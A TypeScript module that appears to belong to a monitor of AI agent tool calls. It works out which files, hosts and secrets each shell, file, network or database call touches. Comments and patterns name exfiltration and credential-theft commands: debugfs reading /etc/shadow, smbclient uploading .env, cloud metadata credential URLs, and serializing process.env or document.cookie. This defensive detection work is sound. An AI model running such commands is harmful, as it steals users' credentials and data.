import type { ToolCall } from './toolcall.js';
import type { CommandView, SimpleCommand } from './shell/types.js';
import { classifyPath, canonicalPath, homeInterpolated, looksLikePath, SENSITIVE_PATHS, type SensitivePath } from './knowledge/paths.js';
import { destinationOf, type Destination } from './knowledge/hosts.js';
import { findSecrets, SECRET_SETTING_NAME, secretsNotIssuedBy, secretsSentAway } from './knowledge/secrets.js';
import { atCwd } from './shell/names.js';
import { copyOperands, editsInPlace, findSelection, installMakesDirectories } from './shell/command-args.js';
import { clientQueries, isSqlClient } from './knowledge/sql-clients.js';
import { filesQueried } from './knowledge/sql-tokens.js';
import { table } from './knowledge/table.js';
import { addsMcpServer } from './knowledge/programs.js';

export type Access = 'read' | 'write' | 'append' | 'delete' | 'list' | 'edit' | 'exec' | 'mention';

export interface FileRef {
  path: string;
  canonical: string;
  access: Access;
  sensitive?: SensitivePath;
  cmd?: SimpleCommand;
}

export interface DestinationRef extends Destination {
  cmd?: SimpleCommand;
  /** The command pushes data to it (POST, upload, stdin redirected into a socket). */
  sends: boolean;
}

/** Derived once per call and shared by all analyzers: which files and hosts it touches, and how. */
export interface Facts {
  files: FileRef[];
  destinations: DestinationRef[];
  /** Secret formats present in text the call writes or sends. */
  secrets: string[];
  /** Free text of non-shell calls (SQL, params, bodies), for analyzers that read prose. */
  texts: string[];
}

/** How a command treats its file operands. Unlisted commands only "mention" a sensitive path. */
const ACCESS: Record<string, Access> = table({
  cat: 'read', tac: 'read', less: 'read', more: 'read', head: 'read', tail: 'read', nl: 'read', od: 'read', xxd: 'read', hexdump: 'read', strings: 'read',
  base64: 'read', base32: 'read', basenc: 'read', gpg: 'read', openssl: 'read', cp: 'read', scp: 'read', rsync: 'read', tar: 'read', zip: 'read', '7z': 'read', '7za': 'read', rar: 'read', gzip: 'read', bzip2: 'read', xz: 'read', zstd: 'read',
  sqlite3: 'read', tdbdump: 'read', ldbsearch: 'read', grep: 'read', egrep: 'read', fgrep: 'read', rg: 'read', ag: 'read', ack: 'read', zgrep: 'read', awk: 'read', gawk: 'read', sed: 'read', sort: 'read', uniq: 'read', cut: 'read', diff: 'read', jq: 'read', yq: 'read',
  source: 'exec', '.': 'exec', dd: 'read', python: 'read', python3: 'read', node: 'read', perl: 'read', nc: 'read', ncat: 'read', socat: 'read', curl: 'read', wget: 'read', split: 'read', sha256sum: 'read', md5sum: 'read', shasum: 'read', cksum: 'read', wc: 'read',
  zcat: 'read', bat: 'read', view: 'read', pr: 'read', fold: 'read', paste: 'read', column: 'read', iconv: 'read', mail: 'read', mailx: 'read', mutt: 'read', sendmail: 'read', slackcat: 'read', security: 'read', plutil: 'read', pbcopy: 'read', xclip: 'read', xsel: 'read', look: 'read', tr: 'read', rev: 'read',
  ls: 'list', find: 'list', tree: 'list', du: 'list', stat: 'list', file: 'list', exa: 'list', eza: 'list', fd: 'list', locate: 'list',
  // a path's permissions, attributes or resolved name, never its content
  namei: 'list', getfacl: 'list', lsattr: 'list', realpath: 'list', readlink: 'list',
  // permissions and ownership change what the file allows, never show what it holds
  chmod: 'list', chown: 'list', chgrp: 'list',
  vim: 'edit', vi: 'edit', nano: 'edit', emacs: 'edit', code: 'edit', subl: 'edit', nvim: 'edit', micro: 'edit', open: 'edit',
  rm: 'delete', shred: 'delete', unlink: 'delete', srm: 'delete', wipe: 'delete', truncate: 'delete', rmdir: 'delete',
  touch: 'write', tee: 'write', mkdir: 'write', ln: 'write',
  // htpasswd creates or updates the password file it is given: a login is added, none read
  htpasswd: 'write',
  // install puts files in place with their mode and owner (a unit, a config, an env file); where they go is the write
  install: 'mention',
});

/** The local files an smbclient command script uploads: `-c 'put .env env.txt; mput *.sql'`. */
export function smbUploads(argv: readonly string[]): string[] {
  const c = argv.indexOf('-c');
  const script = c > 0 ? argv[c + 1] : argv.find((a) => a.startsWith('--command='))?.slice(10);
  const out: string[] = [];
  for (const part of (script ?? '').slice(0, 4096).split(';')) {
    const [verb, ...files] = part.trim().split(/\s+/);
    if (verb === 'put' && files[0]) out.push(files[0]);
    else if (verb === 'mput') out.push(...files.slice(0, 32));
  }
  return out;
}

/**
 * A message an AppleScript run through osascript composes in Mail and sends (`make new outgoing message` … `send`):
 * its recipients' addresses and the files it attaches (`POSIX file "/tmp/x.zip"`).
 */
export function appleMailSend(c: SimpleCommand): { to: string[]; files: string[] } | undefined {
  // the script in `-e` lines, or fed on stdin (`osascript <<'EOF' … EOF`)
  const code = [...c.argv.slice(1).filter((w) => w.length < 4096), c.argv.length === 1 ? c.stdin ?? '' : ''].join('\n').slice(0, 8192);
  if (!/make new outgoing message/i.test(code) || !/\bsend\b/i.test(code)) return undefined;
  const to = [...code.matchAll(/address\s*:\s*"([^"\s@]{1,128}@[^"\s@]{1,253})"/gi)].map((m) => m[1]!).slice(0, 16);
  const files = [...code.matchAll(/POSIX file\s*"([^"]{1,1024})"/gi)].map((m) => m[1]!).slice(0, 16);
  return { to, files };
}

/** Options whose value is a key or certificate the tool authenticates with, not data it reads out. */
const SSH_CREDENTIAL_OPTIONS = new Set(['-i', '-F']);
const CREDENTIAL_OPTIONS: Record<string, ReadonlySet<string>> = table({
  ssh: SSH_CREDENTIAL_OPTIONS, scp: SSH_CREDENTIAL_OPTIONS, sftp: SSH_CREDENTIAL_OPTIONS, 'ssh-add': new Set(),
  curl: new Set(['--cert', '-E', '--key', '--cacert', '--capath', '--proxy-cert', '--proxy-key']),
  wget: new Set(['--certificate', '--private-key', '--ca-certificate']),
  openssl: new Set(['-key', '-signkey', '-CAkey', '-cert', '-CAfile', '-CA']),
});

/** Options whose value is a file the command writes (`openssl req -keyout k.pem -out c.pem`), not one it reads. */
export const OUTPUT_OPTIONS: Readonly<Record<string, ReadonlySet<string>>> = table({
  openssl: new Set(['-out', '-keyout']),
  gpg: new Set(['-o', '--output']),
  // a key generated into a file is written, not read
  'age-keygen': new Set(['-o', '--output']), 'ssh-keygen': new Set(['-f']), 'solana-keygen': new Set(['-o', '--outfile']),
});

const KEYCHAIN_TARGET: ReadonlySet<string> = new Set(['-k']);

/** Commands whose first operand is a pattern or message, not a file. */
const PATTERN_FIRST = new Set(['grep', 'egrep', 'fgrep', 'rg', 'ag', 'ack', 'zgrep', 'awk', 'gawk', 'sed', 'jq', 'yq', 'look']);
/** git subcommands whose words are patterns, refs, paths or messages, none of them a host. */
const GIT_TEXT_SUBCOMMANDS: ReadonlySet<string> = new Set(['grep', 'log', 'commit', 'tag', 'notes', 'stash', 'blame', 'diff', 'show', 'shortlog', 'rev-list', 'bisect']);
/** Commands whose operands are text or names, never files they touch. */
const DATA_ONLY = new Set(['echo', 'printf', 'man', 'which', 'whatis', 'apropos', 'type', 'help', 'info', 'whereis', 'command', 'git', 'alias', 'export', 'declare', 'local', 'readonly', 'test', '[', '[[', 'true', 'false', ':', 'brew', 'apt', 'apt-get', 'apt-cache', 'dnf', 'yum', 'npm', 'pnpm', 'yarn', 'pip', 'pip3', 'cargo', 'gem', 'go', 'kill', 'pkill', 'pgrep', 'ps', 'basename', 'dirname', 'realpath', 'readlink', 'ssh-add', 'ssh-keygen', 'gh', 'docker', 'kubectl', 'read', 'exit', 'return', 'set', 'unset', 'shopt', 'cd', 'pushd', 'popd']);

/**
 * `judgedAs`: the path the call's shaped reading already operates on (an MCP tool's file write), which its strings
 * do not also mention: writing ~/.kube/config is judged as the write it is, not as a mention that reads it.
 */
export function computeFacts(call: ToolCall, view: CommandView | undefined, judgedAs?: string): Facts {
  const facts: Facts = { files: [], destinations: [], secrets: [], texts: [] };
  if (view) shellFacts(view, facts);
  switch (call.kind) {
    case 'filesystem': {
      const access: Access = call.operation === 'read' ? 'read' : call.operation === 'list' ? 'list' : call.operation === 'delete' ? 'delete' : 'write';
      addFile(facts, call.path, access);
      if (call.content) {
        facts.secrets.push(...findSecrets(call.content));
        facts.texts.push(call.content);
      }
      break;
    }
    case 'network': {
      const d = destinationOf(call.url);
      const sends = !['GET', 'HEAD', 'OPTIONS'].includes(call.method) || !!call.body;
      if (d) facts.destinations.push({ ...d, sends });
      // the address and headers carry the credentials of the host they go to (a webhook's URL, an API's bearer token); only
      // others' count, while a secret in the body is data sent whatever the host
      const headers = Object.values(call.headers).join('\n');
      facts.secrets.push(...(d ? [...secretsSentAway(call.url, d.host), ...secretsNotIssuedBy(headers, d.host)] : findSecrets(`${call.url}\n${headers}`)), ...findSecrets(call.body ?? ''));
      if (call.body) facts.texts.push(call.body);
      break;
    }
    case 'database':
      facts.texts.push(call.query);
      for (const f of filesQueried(call.query)) addFile(facts, f, 'read');
      break;
    case 'unknown':
      collectStrings(call.params, facts.texts, 0);
      for (const t of facts.texts) {
        facts.secrets.push(...findSecrets(t));
        const d = destinationOf(t);
        if (d) facts.destinations.push({ ...d, sends: false });
        if (looksLikePath(t) && t !== judgedAs) addFile(facts, t, 'mention');
      }
      break;
    case 'bash':
      break;
  }
  facts.secrets = [...new Set(facts.secrets)];
  return facts;
}

function collectStrings(v: unknown, out: string[], depth: number): void {
  if (out.length > 256 || depth > 8) return;
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) for (const x of v) collectStrings(x, out, depth + 1);
  else if (v && typeof v === 'object') for (const x of Object.values(v)) collectStrings(x, out, depth + 1);
}

function addFile(facts: Facts, raw: string, access: Access, cmd?: SimpleCommand): void {
  if (facts.files.length >= 512) return;
  const path = cmd ? atCwd(cmd, raw) : raw;
  const sensitive = classifyPath(path) ?? (access === 'read' && cmd && secretSettingPulled(cmd, path) ? ENV_FILE : undefined);
  facts.files.push({ path, canonical: canonicalPath(path), access, sensitive, cmd });
}

/** An environment file the path table passes as usually holding no secret (`.env.ci`, `.env.test`, `ci.env`). */
const ENV_FILE_NAME = /(?:^|\/)(?:\.env\.[\w.-]+|[\w.-]+\.env)$/;
/** Templates and samples show a setting's name with a made-up value. */
const TEMPLATE_NAME = /[.-](?:example|sample|template|dist|defaults|schema)$/i;
const ENV_FILE = SENSITIVE_PATHS.find((k) => k.kind === 'env-file');
/**
 * A search or filter that picks out a setting named for a credential (`grep '^VERCEL_TOKEN=' .env.ci`,
 * `awk -F= '/^NPM_TOKEN=/{print $2}'`, `sed -n 's/^API_KEY=//p'`): what it prints is the secret, whatever the
 * file is usually for.
 */
export function secretSettingPulled(cmd: Pick<SimpleCommand, 'name' | 'argv'>, path: string): boolean {
  if (!['grep', 'egrep', 'rg', 'awk', 'gawk', 'sed'].includes(cmd.name) || !ENV_FILE_NAME.test(path) || TEMPLATE_NAME.test(path)) return false;
  return cmd.argv.slice(1, 8).some((w) => { const m = /^(?:\^|\/\^?|s\/\^?)?([A-Z][A-Z0-9_]{2,63})=/.exec(w); return m !== null && SECRET_SETTING_NAME.test(m[1]!); });
}

/** A grep pattern that can match no further than a setting's name and its `=`: `^[A-Z_]+=`, `^[^=]*`, `^\w+`. */
const NAMES_ONLY = /^\^?(?:\[(?:\^=|[A-Za-z0-9_-]{1,16})\]|\\w)[+*]=?$/;

/**
 * A keypair tool asked for the public half only: `solana-keygen pubkey id.json`, `solana-keygen verify PUBKEY id.json`,
 * `solana address -k id.json`; SAP's PSE tool, which shows a PSE's certificates and makes requests from it
 * (`sapgenpse get_my_name -p SAPSSLS.pse`) and writes its private key out only with `export_p12`.
 */
function showsPublicKeyOnly(cmd: Pick<SimpleCommand, 'name' | 'argv'>): boolean {
  return (cmd.name === 'solana-keygen' && (cmd.argv[1] === 'pubkey' || cmd.argv[1] === 'verify')) || (cmd.name === 'solana' && cmd.argv[1] === 'address')
    || (cmd.name === 'sapgenpse' && cmd.argv[1] !== undefined && cmd.argv[1] !== 'export_p12');
}

/**
 * Reads that print nothing of what they read: a count, a checksum, whether it matched, only the names
 * of the settings. `wc -l .env`, `sha256sum id_rsa` and `grep -o '^[A-Z_]*=' .env` touch a secret without
 * showing it, so they only mention it.
 */
export function printsNoContent(cmd: Pick<SimpleCommand, 'name' | 'argv'>): boolean {
  switch (cmd.name) {
    case 'wc': case 'sha256sum': case 'sha1sum': case 'sha512sum': case 'md5sum': case 'shasum': case 'b2sum': case 'cksum':
      return true;
    // a validation: `--noout` prints no tree, only parse errors (an XPath query or the shell still print what they select)
    case 'xmllint':
      return cmd.argv.includes('--noout') && !cmd.argv.some((w) => w.startsWith('--xpath') || w === '--shell' || w === '--debug');
    case 'grep': case 'egrep': case 'fgrep': case 'rg': {
      const a = cmd.argv;
      let only = false;
      let pattern: string | undefined;
      for (let k = 1; k < a.length && k < 64; k++) {
        const w = a[k]!;
        if (w === '--') { pattern ??= a[k + 1]; break; }
        if (w === '--count' || w === '--quiet' || w === '--files-with-matches' || w === '--files-without-match') return true;
        if (w === '--only-matching') only = true;
        if (w.startsWith('--regexp=')) pattern ??= w.slice(9);
        if (!/^-[a-zA-Z]+$/.test(w)) {
          if (!w.startsWith('-')) pattern ??= w;
          continue;
        }
        // in a cluster, a value-taking letter (`-e PATTERN`, `-m 3`) ends it and takes what follows
        const value = w.search(/[efmABCd]/);
        const flags = value < 0 ? w : w.slice(0, value + 1);
        // rg's -L follows symlinks; grep's lists the files without a match
        if (/[cql]/.test(flags) || (cmd.name !== 'rg' && flags.includes('L'))) return true;
        if (flags.includes('o')) only = true;
        if (value === w.length - 1) {
          if (w[value] === 'e') pattern ??= a[k + 1];
          k++;
        }
      }
      // `grep -oE '^[A-Z_]+=' .env`: only what each line holds before its `=`, the names, never a value
      return only && pattern !== undefined && NAMES_ONLY.test(pattern);
    }
    default:
      return false;
  }
}

/** Options of `kubectl cp` and `docker cp` that take a value, so the value is not read as a path. */
const CP_VALUE_OPTIONS = new Set(['-n', '--namespace', '-c', '--container', '--retries', '--context', '--kubeconfig']);

/** The find whose results this command was given, by `-exec … {}` or through `| xargs`. */
function finderOf(view: CommandView, at: number, cmd: SimpleCommand): SimpleCommand | undefined {
  if (cmd.wrappers.includes('xargs') && cmd.pipeFrom?.name === 'find') return cmd.pipeFrom;
  // (and a script's command given them as its argument: `-exec sh -c 'cat "$1" >> /tmp/x' _ {} \;`)
  if ((cmd.origin !== 'exec-arg' && cmd.origin !== 'shell-c') || (!cmd.argv.includes('{}') && !cmd.redirects.some((r) => r.target === '{}'))) return undefined;
  for (let k = at - 1; k >= 0; k--) {
    const c = view.commands[k]!;
    if (c.depth >= cmd.depth) continue;
    if (cmd.origin === 'shell-c') return c.origin === 'exec-arg' && c.argv.includes('{}') ? finderOf(view, k, c) : undefined;
    return c.name === 'find' ? c : undefined;
  }
  return undefined;
}

function shellFacts(view: CommandView, facts: Facts): void {
  for (let at = 0; at < view.commands.length; at++) {
    const cmd = view.commands[at]!;
    const { name, argv } = cmd;
    const finder = finderOf(view, at, cmd);
    // the files a SQL client's queries read through the engine (`duckdb -c "SELECT * FROM read_text('~/.netrc')"`)
    if (isSqlClient(name)) for (const q of clientQueries(cmd)) for (const f of filesQueried(q)) addFile(facts, f, 'read', cmd);
    // (given them as arguments; a script that only writes to each is read below, with the redirections)
    if (finder && (cmd.argv.includes('{}') || cmd.wrappers.includes('xargs'))) {
      const access = printsNoContent(cmd) ? 'mention' : ACCESS[name];
      if (access === 'read' || access === 'delete' || access === 'exec') for (const p of findSelection(finder)) addFile(facts, p, access, cmd);
    }
    // redirections: what the command writes, and what it reads
    for (const r of cmd.redirects) {
      if (r.op === '<<' || r.op === '<<<') {
        facts.secrets.push(...findSecrets(r.target));
        continue;
      }
      if (/^\d+$/.test(r.target) || r.target === '-') continue;
      // a script find runs with each file, writing to it (`-exec sh -c 'cat /dev/null > "$1"' _ {} \;`): those files
      if (r.target === '{}' && finder) {
        for (const p of findSelection(finder)) addFile(facts, p, r.op === '>>' || r.op === '&>>' ? 'append' : 'write', cmd);
        continue;
      }
      // a file read through a path built from a variable (`tr '\0' '\n' < /proc/$p/environ`): the unknown part a wildcard,
      // as for an argument; written paths are left alone, where a wildcard would stand for too much
      if (r.dynamic) {
        const glob = r.op === '<' ? expansionsAsGlob(r.target) : undefined;
        if (glob && glob.includes('/') && /[^*/]/.test(glob) && !glob.includes('://')) addFile(facts, glob, 'read', cmd);
        continue;
      }
      const dest = destinationOf(r.target);
      if (dest) {
        facts.destinations.push({ ...dest, cmd, sends: r.op !== '<' });
        continue;
      }
      const access: Access = r.op === '<' ? 'read' : r.op === '>>' || r.op === '&>>' ? 'append' : r.op === '<>' ? 'read' : 'write';
      addFile(facts, r.target, access, cmd);
    }
    // `kubectl cp ns/pod:/app/.env ./env`, `docker cp api:/etc/shadow .`: a file read out of a container
    // (the source), or written into one (the destination)
    if ((name === 'kubectl' || name === 'docker' || name === 'podman' || name === 'oc') && argv[1] === 'cp') {
      const [from, to] = argv.slice(2).filter((a, k, rest) => !a.startsWith('-') && !CP_VALUE_OPTIONS.has(rest[k - 1] ?? ''));
      for (const [a, access] of [[from, 'read'], [to, 'write']] as const) {
        const colon = a === undefined ? -1 : a.indexOf(':');
        if (colon > 0 && a![colon + 1] === '/') addFile(facts, a!.slice(colon + 1), access, cmd);
      }
      continue;
    }
    // `git diff --no-index /dev/null /etc/shadow` prints both files whole
    if (name === 'git' && argv[1] === 'diff' && argv.includes('--no-index')) for (const a of argv.slice(2, 16).filter((w) => !w.startsWith('-'))) addFile(facts, a, 'read', cmd);
    // `git rm .github/CODEOWNERS`: the file deleted from the working tree and from the next commit (`--cached` keeps it on disk)
    if (name === 'git' && argv[1] === 'rm' && !argv.includes('--cached')) for (const a of argv.slice(2, 34).filter((w) => !w.startsWith('-'))) addFile(facts, a, 'delete', cmd);
    // `git show HEAD~5:.env`, `git cat-file -p main:config/secrets.yml`: a file's content from history
    if (name === 'git' && (argv[1] === 'show' || argv[1] === 'cat-file')) {
      for (const a of argv.slice(2, 16)) {
        const colon = a.indexOf(':');
        if (colon > 0 && colon < a.length - 1 && !a.startsWith('-') && !a.includes('://')) addFile(facts, a.slice(colon + 1), 'read', cmd);
      }
    }
    // `smbclient //host/share -c 'put /etc/shadow s'`: the share's host, and the files its commands upload
    if (name === 'smbclient') {
      const share = argv.find((a) => a.startsWith('//'));
      const dest = share === undefined ? undefined : destinationOf(`smb:${share}`);
      if (dest) facts.destinations.push({ ...dest, cmd, sends: true });
      for (const f of smbUploads(argv)) addFile(facts, f, 'read', cmd);
    }
    // debugfs reads files straight off the device, past their permissions: `debugfs -R 'cat /etc/shadow' /dev/sda1`
    if (name === 'debugfs') {
      const request = argv[argv.indexOf('-R') + 1] ?? '';
      const file = /^(?:cat|dump|rdump|dump_inode)\s+(?:-p\s+)?(\/\S{1,1024})/.exec(request)?.[1];
      if (argv.includes('-R') && file !== undefined) addFile(facts, file, 'read', cmd);
    }
    // Mail scripted to send a message: its recipients' hosts, and the files it attaches
    if (name === 'osascript') {
      const mail = appleMailSend(cmd);
      for (const to of mail?.to ?? []) { const dest = destinationOf(to); if (dest) facts.destinations.push({ ...dest, cmd, sends: true }); }
      for (const f of mail?.files ?? []) addFile(facts, f, 'read', cmd);
    }
    if (DATA_ONLY.has(name) && name !== 'git') continue;
    const access = printsNoContent(cmd) ? 'mention' : showsPublicKeyOnly(cmd) ? 'list' : ACCESS[name] ?? 'mention';
    let patternSkipped = !PATTERN_FIRST.has(name) || argv.some((a) => a === '-e' || a === '-f' || a === '--regexp' || a === '--file');
    const sends = sendsData(cmd);
    const credentialOptions = CREDENTIAL_OPTIONS[name];
    // `security add-trusted-cert -k <keychain>`, `security import key.p12 -k <keychain>`: the keychain is written to, not read
    const outputOptions = name === 'security' && /^(?:add-|import$|set-)/.test(argv[1] ?? '') ? KEYCHAIN_TARGET : OUTPUT_OPTIONS[name];
    // a copy writes its destination and reads its sources; `install -d` makes every directory it names
    const makesDirectories = name === 'install' && installMakesDirectories(argv);
    const copy = name === 'cp' || name === 'mv' || (name === 'install' && !makesDirectories) ? copyOperands(name, argv) : undefined;
    const copiesToLast = name === 'ln' || name === 'rsync';
    for (let i = 1; i < argv.length; i++) {
      if (outputOptions?.has(argv[i]!) && i + 1 < argv.length && !cmd.dynamic[i + 1]) {
        addFile(facts, argv[++i]!, 'write', cmd);
        continue;
      }
      // `scp -i ~/.ssh/deploy_key …`, `curl --cert c.pem`: the tool authenticates with the file
      if (credentialOptions?.has(argv[i]!) && i + 1 < argv.length) {
        addFile(facts, argv[++i]!, 'mention', cmd);
        continue;
      }
      let a = argv[i]!;
      if (cmd.dynamic[i]) {
        // `/Users/$USER/.aws/credentials`: the unknown parts become wildcards, and the glob is
        // judged against the sensitive-path catalog like any other
        let glob = expansionsAsGlob(a);
        // `dd if=/proc/$(pgrep -n sshd)/mem`: the operand's key is not part of the path
        const key = glob ? /^([a-z]+)=(?=[/~])/.exec(glob) : null;
        if (glob && key) glob = glob.slice(key[0].length);
        if (glob && glob.includes('/') && /[^*/]/.test(glob)) {
          // `http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`: the host is written out before
          // the expansion; the URL is kept as written, so rules still read what it asks for
          const dest = glob.includes('://') ? destinationOf(glob.slice(0, glob.indexOf('*'))) : undefined;
          if (dest) facts.destinations.push({ ...dest, url: a, cmd, sends });
          else addFile(facts, glob, name === 'dd' && key?.[1] === 'of' ? 'write' : access, cmd);
        }
        continue;
      }
      if (a.startsWith('-') && a.length > 1) {
        // value-carrying options that name files: --data @file, -F x=@file, if=/of=
        const at = a.indexOf('@');
        if (at >= 0 && looksLikePath(a.slice(at + 1))) addFile(facts, a.slice(at + 1), 'read', cmd);
        continue;
      }
      // a grep/sed/awk/jq pattern is text to match, never a file or a host (`grep 169.254.169.254 infra/`)
      if (!patternSkipped) {
        patternSkipped = true;
        continue;
      }
      // `git grep 169.254.169.254`, `git log -S …`, `git commit -m …`: patterns, refs and messages, never a host reached
      if (name === 'git' && GIT_TEXT_SUBCOMMANDS.has(argv[1] ?? '')) continue;
      // SQLite opens URI filenames (`file:/path/Login Data?immutable=1` reads a database a browser holds locked)
      if (name === 'sqlite3' && a.startsWith('file:')) a = a.slice(5).replace(/^\/\/(?:localhost)?(?=\/)/, '').replace(/\?.*$/s, '');
      const dest = destinationOf(a);
      if (dest) {
        facts.destinations.push({ ...dest, cmd, sends });
        continue;
      }
      if (a.startsWith('@')) a = a.slice(1);
      else if (/^[a-z]+=@?\//.test(a) || /^[a-z]+=@?[~.]/.test(a)) {
        const key = a.slice(0, a.indexOf('='));
        a = a.slice(a.indexOf('=') + 1).replace(/^@/, '');
        if (name === 'dd' && key === 'of') { addFile(facts, a, 'write', cmd); continue; }
      }
      // git's words are subcommands, refs and messages; only a few subcommands take files
      if (name === 'git' && argv[1] !== 'add' && argv[1] !== 'show' && argv[1] !== 'archive') continue;
      if (!looksLikePath(a)) continue;
      const acc: Access =
        makesDirectories || (copy ? i === copy.destIndex : copiesToLast && i === argv.length - 1 && argv.length > 2) ? 'write'
        : name === 'mv' ? 'delete'
        : (name === 'sed' && argv.some((x) => x === '-i' || x.startsWith('-i') || x === '--in-place')) || ((name === 'gawk' || name === 'awk') && editsInPlace(cmd)) ? 'edit'
        : name === 'tee' && argv.some((x) => x === '-a' || x === '--append') ? 'append'
        : access;
      addFile(facts, a, acc, cmd);
    }
  }
  for (const s of view.scripts) {
    // `homedir() + '/.config/gh/hosts.yml'`, `os.path.expanduser('~') + '/.aws/…'`: a home-relative suffix
    const home = /homedir\(|expanduser|HOME|USERPROFILE|Dir\.home|Path\.home\(|getenv\(["']HOME/.test(s.code);
    // libraries that read a credential file of their own accord: Python's and Ruby's netrc readers
    if (/\bnetrc\.netrc\(\s*\)|\bNet::Netrc\.read\b/.test(s.code)) addFile(facts, '~/.netrc', 'read', s.command);
    // a literal with spaces is one path when it names a sensitive file (`…/Default/Login Data`), several when it is a glob's
    // list (perl's `glob("~/.pgpass ~/.my.cnf")`), and otherwise not a path
    const globs = /\bglob\s*\(?/.test(s.code);
    for (const lit of s.strings) {
      const paths = !lit.includes(' ') ? [lit] : globs ? lit.split(/\s+/, 64) : classifyPath(lit) ? [lit] : [];
      for (const p of paths.map(homeInterpolated)) {
        // (a dot-folder's file the code joins to the home directory: `Path.home().joinpath('.cursor/mcp.json')`)
        if (home && p.startsWith('.') && p.includes('/') && classifyPath(`~/${p}`)) addFile(facts, `~/${p}`, 'read', s.command);
        else if (looksLikePath(p)) addFile(facts, home && p.startsWith('/.') ? `~${p}` : p, 'read', s.command);
      }
    }
    // `"/etc/" + "shadow"`, `os.path.join("/etc", "shadow")`: a path split over neighbouring literals,
    // kept only when the whole names a sensitive file
    const parts = s.strings.slice(0, 256);
    const joins = s.code.includes('join') ? ['', '/'] : [''];
    for (let k = 0; k + 1 < parts.length; k++) {
      if (!parts[k]!.startsWith('/') && !parts[k]!.startsWith('~')) continue;
      for (const sep of joins) {
        const two = parts[k] + sep + parts[k + 1];
        for (const whole of k + 2 < parts.length ? [two, two + sep + parts[k + 2]] : [two]) {
          if (whole.length < 4096 && classifyPath(whole)) addFile(facts, whole, 'read', s.command);
        }
      }
    }
  }
  for (const s of view.scripts) {
    // one answer per script, not per literal; a script that serializes its whole environment sends it
    // whichever way it calls out, a GET's query included
    let sends: boolean | undefined;
    for (const lit of s.strings) {
      const d = destinationOf(lit);
      if (!d) continue;
      sends ??= /socket|connect|post|send|upload|request|urlopen/i.test(s.code) || WHOLE_ENVIRONMENT.test(s.code.slice(0, 8192));
      // an address that ends in a query's `name=` has the value joined on in code (`'https://x/?d=' + process.env.T`): a GET sends it
      facts.destinations.push({ ...d, cmd: s.command, sends: sends || /[?&][\w.-]{0,40}=$/.test(lit) });
    }
  }
}

/**
 * The whole environment turned into data (`JSON.stringify(process.env)`, `dict(os.environ)`, perl's `%ENV`,
 * ruby's `ENV.to_h`), or a page's cookies and storage read by script run in the browser: nothing reads those
 * next to a URL except to send them, a GET's query or an image beacon included.
 */
const WHOLE_ENVIRONMENT = /JSON\.stringify\(\s*process\.env\s*\)|Object\.(?:entries|keys|values)\(\s*process\.env\s*\)|dict\(\s*os\.environ\s*\)|os\.environ\.copy\(\)|(?:str|repr)\(\s*os\.environ\s*\)|\bENV\.to_h\b|%ENV\b|document\.cookie|\b(?:local|session)Storage\b/;

/** Does this command push data to the network (as opposed to fetching)? */
export function sendsData(cmd: SimpleCommand): boolean {
  const { name, argv } = cmd;
  switch (name) {
    case 'curl':
      return argv.some((a, i) => i > 0 && (/^-(d|F|T)/.test(a) || /^--(data|form|upload-file|json)/.test(a) || ((a === '-X' || a === '--request') && /^(POST|PUT|PATCH)$/i.test(argv[i + 1] ?? '')))) || cmd.pipeFrom !== undefined && argv.some((a) => a.includes('@-'));
    case 'wget':
      return argv.some((a) => a.startsWith('--post-') || a.startsWith('--body-') || a === '--method=POST' || a === '--method=PUT');
    case 'nc': case 'ncat': case 'netcat': case 'socat': case 'telnet':
      return cmd.pipeFrom !== undefined || cmd.redirects.some((r) => r.op === '<');
    case 'scp': case 'rsync': case 'sftp': case 'ftp': case 'smbclient': case 'rclone': case 'mail': case 'sendmail': case 'mutt': case 'mailx': case 's-nail': case 'swaks': case 'slackcat':
      return true;
    case 'http': case 'https': case 'xh':
      return argv.some((a) => /^(POST|PUT|PATCH)$/i.test(a) || a.includes('@') || a.includes('=')) ;
    default:
      // an agent's remote MCP server is sent the headers it is added with, on every request (`claude mcp add … -H 'X: …'`)
      return addsMcpServer(name, argv) && argv.some((a) => a === '-H' || a === '--header' || a.startsWith('--header='));
  }
}

/** `$X`, `${…}`, `$(…)` and backtick parts of a word replaced by `*` (bounded, linear). */
export function expansionsAsGlob(word: string): string | undefined {
  if (word.length > 1024) return undefined;
  let out = '';
  for (let i = 0; i < word.length; i++) {
    const c = word[i]!;
    if (c === '`') {
      const end = word.indexOf('`', i + 1);
      if (end < 0) return undefined;
      out += '*';
      i = end;
    } else if (c === '$' && (word[i + 1] === '(' || word[i + 1] === '{')) {
      const open = word[i + 1]!;
      const close = open === '(' ? ')' : '}';
      let depth = 0;
      let j = i + 1;
      for (; j < word.length; j++) {
        if (word[j] === open) depth++;
        else if (word[j] === close && --depth === 0) break;
      }
      if (j >= word.length) return undefined;
      out += '*';
      i = j;
    } else if (c === '$' && /[A-Za-z_]/.test(word[i + 1] ?? '')) {
      let j = i + 1;
      while (j < word.length && /[A-Za-z0-9_]/.test(word[j]!)) j++;
      out += '*';
      i = j - 1;
    } else out += c;
  }
  return out.replace(/\*{2,}/g, '*');
}
